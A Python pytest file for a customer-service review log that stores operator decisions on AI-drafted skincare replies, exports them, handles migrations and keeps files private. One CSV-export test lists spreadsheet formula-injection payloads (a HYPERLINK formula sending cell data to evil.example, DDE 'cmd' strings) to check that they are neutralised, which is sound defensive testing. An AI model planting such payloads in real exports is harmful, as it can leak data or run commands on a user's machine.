"""The review log: decisions, edit ratio, threads, analytics, exports, and several operators at once.

Every test that takes `target` runs twice: on a SQLite file and on a real PostgreSQL server."""

from __future__ import annotations

import multiprocessing
import sqlite3
from pathlib import Path

import pytest
import yaml

from assistant.errors import ConflictError, InputError, NotFoundError
from assistant.evals.suite import Case
from assistant.models import Role, Turn
from assistant.reviewlog import ReviewLog, edit_ratio
from assistant.transcript import continue_thread
from tests.support import run_cli


@pytest.fixture(params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def target(request, tmp_path) -> Path | str:
    """Where a log lives: a SQLite file, or the URL of a new database on a real PostgreSQL server."""
    if request.param == "sqlite":
        return tmp_path / "review.db"
    return request.getfixturevalue("postgres_url")


def make_draft(demo, log: ReviewLog, customer_id: str | None, message: str, operator: str = "ann") -> int:
    thread = log.thread(customer_id) if customer_id else []
    conversation, new_turns = continue_thread(thread, message)
    draft = demo.draft(conversation)
    return log.log_draft(
        draft,
        conversation=conversation,
        new_turns=new_turns,
        input_text=message,
        customer_id=customer_id,
        operator=operator,
    )


def test_decisions_threads_and_edit_ratio(demo, target):
    log = ReviewLog(target)
    customer = log.create_customer("小美", {"skin_types": ["oily"]})
    first = make_draft(demo, log, customer, "你好，我脸上老出油还长痘")
    result = log.decide(first, "approved", operator="ann")
    assert result["decision"] == "approved" and result["edit_ratio"] == 0.0
    assert [t.role for t in log.thread(customer)] == [Role.customer, Role.operator]
    second = make_draft(demo, log, customer, "对的")
    row = log.draft(second)
    assert row["stage"] == "propose"  # the thread carried the restatement, the customer confirmed it
    edited = log.decide(second, "approved", final_text="我改写了这一句回复。", operator="bob")
    assert edited["decision"] == "edited" and edited["edit_ratio"] > 0.5
    with pytest.raises(InputError, match="already"):
        log.decide(second, "rejected", reason="late")
    third = make_draft(demo, log, customer, "好的")
    with pytest.raises(InputError, match="say why"):
        log.decide(third, "rejected")
    log.decide(third, "rejected", reason="too long")
    thread = log.thread(customer)  # a rejected draft's message joins the thread, its reply does not
    assert len(thread) == 5 and thread[-1].role is Role.customer and thread[-1].text == "好的"
    metrics = {m["stage"]: m for m in log.metrics(log.drafts(), by="stage")}
    assert (
        metrics["propose"]["drafts"] == 2
        and metrics["propose"]["approval_rate"] == 0.5
        and metrics["propose"]["edited"] == 1
    )
    assert "too long" in log.to_csv(log.drafts()) and log.customers()[0]["drafts"] == 3


def test_edit_ratio():
    assert edit_ratio("abc", "abc") == 0.0 and edit_ratio("", "") == 0.0
    assert 0 < edit_ratio("您好，请问您是油皮吗？", "您好，您是油皮吗？") < 0.5
    assert edit_ratio("abc", "xyz") == 1.0


def test_approved_draft_becomes_an_eval_case(demo, target):
    log = ReviewLog(target)
    customer = log.create_customer("Lily")
    draft_id = make_draft(demo, log, customer, "用了你们的精华脸上起红疹了")
    log.decide(draft_id, "approved")
    case = log.to_eval_case(draft_id)
    Case.model_validate(case)  # the eval-suite format
    assert case["expect"]["stage"] == "escalate" and case["conversation"][-1] == {
        "customer": "用了你们的精华脸上起红疹了"
    }
    assert yaml.safe_load(yaml.safe_dump(case, allow_unicode=True)) == case
    pending = make_draft(demo, log, customer, "好的")
    with pytest.raises(InputError, match="pending"):
        log.to_eval_case(pending)


def _operator(args: tuple[str, int, int]) -> list[tuple[int, str]]:
    """One operator session: its own customer, drafts and decisions, as fast as it can."""
    target, worker, rounds = args
    log = ReviewLog(target)
    customer = log.create_customer(f"customer-{worker}")
    done = []
    for n in range(rounds):
        conversation, new_turns = continue_thread(log.thread(customer), f"worker {worker} message {n}")
        from assistant.models import Analysis, Draft, Slots, Stage

        draft = Draft(
            stage=Stage.ask,
            reply=f"reply {worker}-{n}",
            variants=[f"reply {worker}-{n}"],
            analysis=Analysis(slots=Slots(), stage=Stage.ask, language="en"),
            engine="offline",
        )
        draft_id = log.log_draft(
            draft,
            conversation=conversation,
            new_turns=new_turns,
            input_text=f"w{worker} m{n}",
            customer_id=customer,
            operator=f"op-{worker}",
        )
        log.decide(draft_id, "approved", final_text=f"sent {worker}-{n}", operator=f"op-{worker}")
        done.append((draft_id, customer))
    return done


def test_concurrent_operators_lose_and_mix_nothing(target):
    workers, rounds = 6, 25  # the processes open the new log at once: one migrates, the others wait
    with multiprocessing.get_context("spawn").Pool(workers) as pool:
        results = pool.map(_operator, [(str(target), w, rounds) for w in range(workers)])
    log = ReviewLog(target)
    drafts = log.drafts()
    assert len(drafts) == workers * rounds and len({d["id"] for d in drafts}) == workers * rounds
    for worker, done in enumerate(results):
        customer = done[0][1]
        mine = [d for d in drafts if d["customer_id"] == customer]
        assert len(mine) == rounds and {d["operator"] for d in mine} == {f"op-{worker}"}
        assert all(d["final_text"].startswith(f"sent {worker}-") and d["decision"] == "edited" for d in mine)
        thread = log.thread(customer)
        assert [t.text for t in thread] == [
            x for n in range(rounds) for x in (f"worker {worker} message {n}", f"sent {worker}-{n}")
        ]
    if log.path is not None:
        assert sqlite3.connect(log.path).execute("PRAGMA journal_mode").fetchone()[0] == "wal"


def test_customer_needs_a_name(target):
    with pytest.raises(InputError):
        ReviewLog(target).create_customer("  ")


def test_whole_chat_paste_replaces_the_thread():
    thread = [Turn(role=Role.customer, text="旧消息")]
    conversation, new = continue_thread(thread, "客户: 新的\n我: 好\n客户: 对", replace=True)
    assert [t.text for t in conversation.turns] == ["新的", "好", "对"] and len(new) == 3
    conversation, _ = continue_thread(thread, "再来一条")
    assert [t.text for t in conversation.turns] == ["旧消息", "再来一条"]


def test_cli_export_writes_a_valid_suite(demo, tmp_path):
    data = tmp_path / "data"
    log = ReviewLog.in_data_dir(data)
    draft_id = make_draft(demo, log, log.create_customer("A"), "你好，我是干皮，脸上起皮")
    log.decide(draft_id, "approved", final_text="您好～干皮起皮的话，主要是在两颊还是全脸呢？")
    out = run_cli("eval", "export", "--out", str(tmp_path / "s.yaml"), data_dir=data)
    assert out.returncode == 0, out.stderr
    suite = yaml.safe_load((tmp_path / "s.yaml").read_text(encoding="utf-8"))
    assert suite["cases"][0]["id"] == f"review-{draft_id}" and suite["cases"][0][
        "reference_reply"
    ].startswith("您好～干皮")


def test_csv_export_is_inert_in_a_spreadsheet_and_opens_in_excel(demo, target):
    """Customer text that a spreadsheet would run (=, +, -, @, tab, CR first) is prefixed with ', and
    the file starts with a UTF-8 BOM so Excel/WPS on a Chinese Windows shows the Chinese."""
    import csv
    import io

    log = ReviewLog(target)
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"点我")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
    ]
    customer = log.create_customer("=cmd|' /C calc'!A0")
    for text in hostile:
        log.decide(make_draft(demo, log, customer, text, operator="@ann"), "rejected", reason="-1 bad")
    exported = log.to_csv(log.drafts())
    assert exported.startswith("\ufeff") and exported.encode("utf-8").startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(exported.removeprefix("\ufeff"))))
    assert sorted(r["input_text"] for r in rows) == sorted("'" + t for t in hostile)
    for row in rows:
        assert row["customer"] == "'=cmd|' /C calc'!A0" and row["operator"] == "'@ann"
        assert row["reason_text"] == "'-1 bad"
        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


def test_the_review_log_is_0600_from_the_start(demo, tmp_path):
    import os
    import stat

    old = os.umask(0o022)
    try:
        log = ReviewLog(tmp_path / "data" / "review.db")
        customer = log.create_customer("小美")
        draft_id = make_draft(demo, log, customer, "你好")
        with sqlite3.connect(log.path) as reader:  # keep a reader open so the WAL and shm files stay
            reader.execute("SELECT COUNT(*) FROM drafts").fetchone()
            log.decide(draft_id, "approved")
            files = {p.name: stat.S_IMODE(p.stat().st_mode) for p in log.path.parent.iterdir()}
    finally:
        os.umask(old)
    assert {"review.db", "review.db-wal", "review.db-shm"} <= set(files), files
    assert all(mode == 0o600 for mode in files.values()), {k: oct(v) for k, v in files.items()}
    assert stat.S_IMODE(log.path.parent.stat().st_mode) == 0o700


def test_an_older_readable_review_log_is_made_private(tmp_path):
    import stat

    path = tmp_path / "review.db"
    sqlite3.connect(path).close()
    path.chmod(0o644)
    ReviewLog(path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_cli_export_reads_the_log_named_by_the_database_url(demo, target, tmp_path):
    url = str(target) if isinstance(target, str) else f"sqlite:///{target}"
    log = ReviewLog(target)
    draft_id = make_draft(demo, log, log.create_customer("B"), "我是油皮，想控油")
    log.decide(draft_id, "approved")
    out = run_cli(
        "eval",
        "export",
        "--out",
        str(tmp_path / "s.yaml"),
        data_dir=tmp_path / "elsewhere",
        env={"ASSISTANT_DATABASE_URL": url},
    )
    assert out.returncode == 0, out.stderr
    assert yaml.safe_load((tmp_path / "s.yaml").read_text(encoding="utf-8"))["cases"][0]["id"] == (
        f"review-{draft_id}"
    )
    assert not (tmp_path / "elsewhere" / "review.db").exists()


def test_a_whole_chat_paste_replaces_the_thread_when_decided_and_keeps_speakers(demo, target):
    log = ReviewLog(target)
    customer = log.create_customer("Zoe")
    log.decide(make_draft(demo, log, customer, "你好"), "approved")
    chat = "小美 10:01\n我是油皮\n沐研顾问 10:02\n出油主要在T区吗？\n小美 10:03\n全脸都油"
    conversation, new_turns = continue_thread(log.thread(customer), chat, replace=True)
    draft_id = log.log_draft(
        demo.draft(conversation),
        conversation=conversation,
        new_turns=new_turns,
        input_text=chat,
        customer_id=customer,
        operator="ann",
        replace_thread=True,
    )
    assert len(log.thread(customer)) == 2  # nothing changes while the draft is pending
    log.decide(draft_id, "approved", final_text="明白啦，全脸出油的话……")
    thread = log.thread(customer)
    assert [t.text for t in thread] == ["我是油皮", "出油主要在T区吗？", "全脸都油", "明白啦，全脸出油的话……"]
    assert [t.speaker for t in thread] == ["小美", "沐研顾问", "小美", None]


def test_decision_rules_name_the_field(demo, target):
    log = ReviewLog(target)
    draft_id = make_draft(demo, log, log.create_customer("C"), "你好")
    for kwargs, field in (
        ({"decision": "sent"}, "decision"),
        ({"decision": "edited"}, "final_text"),
        ({"decision": "edited", "final_text": "  "}, "final_text"),
        ({"decision": "rejected", "reason": " "}, "reason"),
        ({"decision": "approved", "variant": 7}, "variant"),
        ({"decision": "approved", "final_text": "   "}, "final_text"),
    ):
        with pytest.raises(InputError) as caught:
            log.decide(draft_id, **kwargs)
        assert caught.value.field == field, kwargs
    with pytest.raises(NotFoundError):
        log.decide(draft_id + 100, "approved")
    assert log.decide(draft_id, "edited", final_text="您好～")["decision"] == "edited"
    with pytest.raises(ConflictError, match="already edited"):
        log.decide(draft_id, "approved")
    with pytest.raises(NotFoundError) as caught:
        log.customer("nobody")
    assert caught.value.field == "customer_id"


def test_messages_from_the_chat_tool_and_the_follow_up_view(demo, target):
    log = ReviewLog(target)
    quiet, waiting = log.create_customer("quiet"), log.create_customer("waiting")
    log.create_customer("no thread yet")
    log.decide(make_draft(demo, log, quiet, "我是干皮"), "approved")
    log.add_turns(waiting, [Turn(role=Role.customer, text="在吗？", speaker="小美")])
    with pytest.raises(NotFoundError):
        log.add_turns("nobody", [Turn(role=Role.customer, text="hi")])
    rows = {r["name"]: r for r in log.last_turns()}
    assert set(rows) == {"quiet", "waiting"}
    assert rows["quiet"]["role"] == "operator" and rows["quiet"]["pending_drafts"] == 0
    assert rows["waiting"]["role"] == "customer" and rows["waiting"]["text"] == "在吗？"
    log.add_turns(waiting, [Turn(role=Role.customer, text="重新开始")], replace=True)
    assert [t.text for t in log.thread(waiting)] == ["重新开始"]


# The schema the review log had before migrations (main until this change): a file made by it must
# open in place, keep its rows and gain the columns added since.
OLD_SCHEMA = """
CREATE TABLE IF NOT EXISTS customers (
    id TEXT PRIMARY KEY, name TEXT NOT NULL, profile_json TEXT NOT NULL DEFAULT '{}',
    created REAL NOT NULL, updated REAL NOT NULL
);
CREATE TABLE IF NOT EXISTS turns (
    id INTEGER PRIMARY KEY AUTOINCREMENT, customer_id TEXT NOT NULL REFERENCES customers(id),
    role TEXT NOT NULL, text TEXT NOT NULL, draft_id INTEGER, created REAL NOT NULL
);
CREATE TABLE IF NOT EXISTS drafts (
    id INTEGER PRIMARY KEY AUTOINCREMENT, customer_id TEXT REFERENCES customers(id), operator TEXT,
    created REAL NOT NULL, input_text TEXT NOT NULL, conversation_json TEXT NOT NULL, profile_json TEXT NOT NULL,
    slots_json TEXT NOT NULL, stage TEXT NOT NULL, reason TEXT NOT NULL, variants_json TEXT NOT NULL,
    products_json TEXT NOT NULL, findings_json TEXT NOT NULL, citations_json TEXT NOT NULL,
    engine TEXT NOT NULL, model TEXT, latency_ms REAL NOT NULL,
    decision TEXT NOT NULL DEFAULT 'pending', final_text TEXT, reason_text TEXT, decided_at REAL, edit_ratio REAL
);
CREATE INDEX IF NOT EXISTS drafts_created ON drafts(created);
CREATE INDEX IF NOT EXISTS turns_customer ON turns(customer_id, id);
"""


@pytest.mark.parametrize("learned_column", [False, True], ids=["original", "with-learned-column"])
def test_a_review_db_from_before_migrations_upgrades_in_place(demo, tmp_path, learned_column):
    path = tmp_path / "review.db"
    with sqlite3.connect(path) as old:
        old.executescript(OLD_SCHEMA)
        if learned_column:  # a log opened by the version that added columns on open
            old.execute("ALTER TABLE customers ADD COLUMN learned_json TEXT NOT NULL DEFAULT '{}'")
        old.execute(
            "INSERT INTO customers (id, name, profile_json, created, updated) "
            "VALUES ('c1', '老客户', '{\"budget\": 200}', 1.0, 2.0)"
        )
        old.execute(
            "INSERT INTO turns (customer_id, role, text, created) VALUES ('c1', 'customer', '上次的话', 1.5)"
        )
        old.execute(
            "INSERT INTO drafts (customer_id, operator, created, input_text, conversation_json, profile_json, "
            "slots_json, stage, reason, variants_json, products_json, findings_json, citations_json, engine, "
            "latency_ms, decision, final_text) VALUES ('c1', 'ann', 1.6, '上次的话', '{}', '{}', '{}', 'ask', 'r', "
            "'[\"您好\"]', '[]', '[]', '[]', 'offline', 5.0, 'approved', '您好')"
        )
    log = ReviewLog(path)
    customer = log.customer("c1")
    assert (
        customer["name"] == "老客户" and customer["profile"] == {"budget": 200} and customer["learned"] == {}
    )
    assert [(t.text, t.speaker) for t in log.thread("c1")] == [("上次的话", None)]
    assert [(d["id"], d["final_text"], d["customer"]) for d in log.drafts()] == [(1, "您好", "老客户")]
    new = make_draft(demo, log, "c1", "还是油")
    assert new == 2 and log.decide(new, "approved")["decision"] == "approved"
    log.save_learned("c1", {"stage": "ask"})
    assert log.customer("c1")["learned"] == {"stage": "ask"}
    with sqlite3.connect(path) as db:
        assert db.execute("SELECT version_num FROM alembic_version").fetchone()[0] == log.revision
        indexes = {r[1] for r in db.execute("SELECT * FROM sqlite_master WHERE type = 'index'")}
    assert {"drafts_created", "turns_customer", "drafts_customer"} <= indexes
    assert ReviewLog(path).revision == log.revision  # opening again changes nothing


def test_database_url_errors_name_the_variable_and_hide_the_password(tmp_path):
    from assistant.db.engine import parse_url
    from assistant.errors import ConfigError, DatabaseError

    for bad in ("not a url", "mysql://u:secret@h/db", "sqlite://", "sqlite:///:memory:"):
        with pytest.raises(ConfigError, match="ASSISTANT_DATABASE_URL") as caught:
            parse_url(bad)
        assert "secret" not in str(caught.value)
    assert parse_url("postgresql://u:p@h/db").drivername == "postgresql+psycopg"
    assert parse_url("postgres://u:p@h/db").drivername == "postgresql+psycopg"
    from tests.support import free_port

    url = f"postgresql+psycopg://ann:hunter2secret@127.0.0.1:{free_port()}/assistant"
    with pytest.raises(DatabaseError) as caught:
        ReviewLog(url)
    assert "hunter2secret" not in str(caught.value) and "127.0.0.1" in str(caught.value)


def test_the_quick_head_is_alembics_head():
    from alembic.script import ScriptDirectory

    from assistant.db.migrate import alembic_config, head

    assert head() == ScriptDirectory.from_config(alembic_config()).get_current_head()
